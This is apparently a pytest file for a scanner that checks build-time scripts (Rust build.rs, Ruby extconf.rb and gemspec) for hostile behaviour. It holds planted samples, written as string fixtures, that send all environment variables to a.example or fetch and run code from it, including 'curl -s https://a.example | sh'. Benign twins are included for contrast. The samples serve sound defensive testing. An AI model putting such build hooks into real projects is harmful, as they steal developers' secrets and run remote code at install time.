"""Programs that are run while something is built: build.rs of Rust, extconf.rb of Ruby.

The plants are ours and are never run; each language has its twins that do what honest ones do.

Spec: evenhand.readers: cargo_build, ruby_build; evenhand.code: grammar_ruby, grammar_rust.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from evenhand.code.rust_spoken import spoken
from tests.readers.reading import read_bytes

RUST = "use std::process::Command;\nuse std::{env, fs};\nfn main() {\n%s\n}\n"
PLANTS = (
    ("cargo_build", "build.rs", RUST % (
        "  let mut all = String::new();\n  for (k, v) in env::vars() {\n"
        '    all.push_str(&format!("{k}={v}\\n"));\n  }\n'
        '  let mut to = std::net::TcpStream::connect("a.example:80").unwrap();\n'
        '  write!(to, "POST /b HTTP/1.0\\r\\n\\r\\n{all}").ok();'),
     "collects and sends", "a.example", 9),
    ("cargo_build", "build.rs", RUST % (
        '  let out = format!("{}/tool", env::var("OUT_DIR").unwrap());\n'
        '  let got = ureq::get("https://a.example/t").call().unwrap().into_string().unwrap();\n'
        '  fs::write(&out, got).unwrap();\n  Command::new(&out)\n    .arg("-q")\n    .status();'),
     "downloads and runs", "a.example", 7),
    ("cargo_build", "build.rs",
     RUST % '  Command::new("sh").args(["-c", "curl -s https://a.example | sh"]).status();',
     "downloads and runs", "a.example", 4),
    ("ruby_build", "ext/a/extconf.rb",
     'require "mkmf"\nrequire "open-uri"\nblob = File.join(Dir.tmpdir, "a-#{RUBY_PLATFORM}")\n'
     'File.binwrite(blob, URI.open("https://a.example/#{RUBY_PLATFORM}").read)\nspawn(blob)\n',
     "downloads and runs", "a.example", 5),
    ("ruby_build", "ext/a/extconf.rb",
     'require "net/http"\ndef tell(x)\n  Net::HTTP.start("a.example", 80) { |h| h.post("/b", x) }\n'
     'end\ntell(ENV.map { |k, v| "#{k}=#{v}" }.join("\\n"))\n',
     "collects and sends", "a.example", 3),
    ("ruby_build", "a.gemspec",
     "Gem::Specification.new do |s|\n  s.version = `curl -s https://a.example | sh`\nend\n",
     "downloads and runs", "a.example", 2),
)  # fmt: skip
TWINS = (
    ("cargo_build", RUST % (
        '  println!("cargo:rerun-if-changed=a.c");\n'
        '  let target = env::var("TARGET").unwrap();\n  let cc = env::var("CC").ok();\n'
        '  let out = Command::new("pkg-config").args(&["--libs", "a"]).output().unwrap();\n'
        '  let text = String::from_utf8(out.stdout).unwrap();\n'
        '  let out = format!("{}/a.rs", env::var("OUT_DIR").unwrap());\n'
        '  let mut f = fs::File::create(out).unwrap();\n'
        '  writeln!(f, "// {target} {text}").unwrap();')),
    ("ruby_build",
     'require "mkmf"\n$CFLAGS << " #{ENV["CFLAGS"]}"\nheader = File.read("a.h")\n'
     'abort "no zlib" unless have_library("z")\nsystem("make -C a clean")\n'
     'version = `git describe --tags`.chomp\nFile.write("a.inc", header + version)\n'
     'create_makefile("a/a") unless `env LANG=C nm a`.include?("T a")\n'),
)  # fmt: skip


@pytest.mark.parametrize("plant", PLANTS, ids=lambda p: f"{p[0]}-{p[3]}-{p[5]}")
def test_what_a_build_takes_or_brings(
    plant: tuple[str, str, str, str, str, int], tmp_path: Path
) -> None:
    reader, path, source, kind, host, line = plant
    rows = read_bytes(reader, source.encode(), tmp_path, path).table("behaviour")
    met = [(r.kind, r.target, r.locator) for r in rows if (r.strength or 0) >= 0.5]
    assert (kind, host, f"line {line}") in met, rows
    assert {r.moment for r in rows} == {"at install"}


@pytest.mark.parametrize("twin", TWINS, ids=lambda t: t[0])
def test_what_builds_do_anyway(twin: tuple[str, str], tmp_path: Path) -> None:
    reader, source = twin
    found = read_bytes(reader, source.encode(), tmp_path, "build.rs")
    assert not found.table("behaviour") and not found.table("hidden_access")
    assert not found.reasons


def test_macros_of_rust_become_calls_on_the_lines_where_they_stand() -> None:
    said = b'x(\n format!("{a}-{{b}}\\"", 1),\n Command::new("a")\n  .env("k", "v")'
    said += b"\n  .arg(b).output())"
    told = spoken(said)
    assert told.count(b"\n") == said.count(b"\n")
    assert b' ("{a}-{{b}}\\"", a, 1)' in told
    assert b'spawn_command(["a",' in told and told.endswith(b"b]).output())")
    assert spoken(b'Command::new("a') == b'Command::new("a'
